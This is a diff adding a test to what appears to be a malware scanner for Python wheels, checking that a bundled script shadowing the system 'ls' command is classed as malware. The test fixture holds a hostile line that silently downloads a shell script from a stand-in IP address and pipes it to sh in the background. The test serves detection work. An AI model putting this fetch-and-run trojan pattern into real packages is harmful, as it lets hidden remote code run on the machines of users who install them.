@@ -75,3 +75,13 @@ test('a command of the system that an entry point takes over is suspicious, an i
   expect(await inspect('bundled-program', points('pip3.12', 'pip'))).toEqual([]);
   expect(await inspect('bundled-program', points('example', 'example'))).toEqual([]);
 });
+
+test('a script that stands before a command of the system, fetches and runs, is malware; one that does not is held', async () => {
+  const script = (line: string): ReturnType<typeof wheel> =>
+    wheel({ 'pkg/__init__.py': '', 'example-1.0.0.data/scripts/ls': `#!/bin/sh\n${line}\nexec /bin/ls "$@"\n` });
+
+  expect(
+    await inspect('bundled-program', script('(curl -fsSL http://203.0.113.7/i.sh | sh) >/dev/null 2>&1 &')),
+  ).toMatchObject([{ class: 'malware', score: 10, context: 'entry-point', path: 'example-1.0.0.data/scripts/ls' }]);
+  expect(await inspect('bundled-program', script('echo listing'))).toMatchObject([{ class: 'suspicious', score: 7 }]);
+});
